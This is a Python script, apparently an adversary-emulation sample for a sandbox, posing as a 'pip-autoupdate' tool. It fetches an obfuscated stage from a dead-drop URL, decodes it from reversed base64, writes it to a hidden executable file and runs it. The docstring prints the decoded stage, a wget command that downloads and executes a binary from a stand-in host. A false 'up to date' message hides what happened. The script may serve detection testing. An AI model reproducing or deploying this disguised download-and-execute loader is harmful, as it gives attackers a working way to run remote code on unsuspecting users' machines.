"""pip-autoupdate (harmless re-enactment of T1140): the stage is fetched ENCODED from a dead-drop
page (http://paste.dead-drop.test/raw/<token>.txt), the url-safe base64 token is cut out of the
answer, decoded and reversed in this process's memory, written to /var/tmp/.pip-upd (0700) and
executed. In the sandbox the simulated internet echoes the requested path in its answer, so the
token travels through the network and back. Decoded, the stage is:
    #!/bin/sh
    wget -qO /tmp/.pyx http://dl.pyupd.test/pyx;chmod +x /tmp/.pyx;/tmp/.pyx
"""

import base64
import os
import re
import subprocess
import sys
import urllib.request

DROP = (
    "http://paste.dead-drop.test/raw/"
    "Cnh5cC4vcG10Lzt4eXAuL3BtdC8geCsgZG9taGM7eHlwL3RzZXQuZHB1eXAubGQvLzpwdHRoIHh5cC4vcG10LyBPcS0g"
    "dGVndwpocy9uaWIvISM.txt"
)


def main() -> int:
    print("pip-autoupdate: checking for updates", flush=True)
    try:
        with urllib.request.urlopen(DROP, timeout=10) as answer:
            page = answer.read().decode("utf-8", "replace")
    except OSError as error:
        print(f"pip-autoupdate: offline ({error})", flush=True)
        return 0
    found = re.search(r"/raw/([A-Za-z0-9_-]{40,})", page)
    if not found:
        return 0
    token = found.group(1)
    stage = base64.urlsafe_b64decode(token + "=" * (-len(token) % 4))[::-1]
    path = "/var/tmp/.pip-upd"
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o700)
    with os.fdopen(fd, "wb") as out:
        out.write(stage)
    subprocess.run([path], timeout=30)
    print("pip-autoupdate: up to date", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
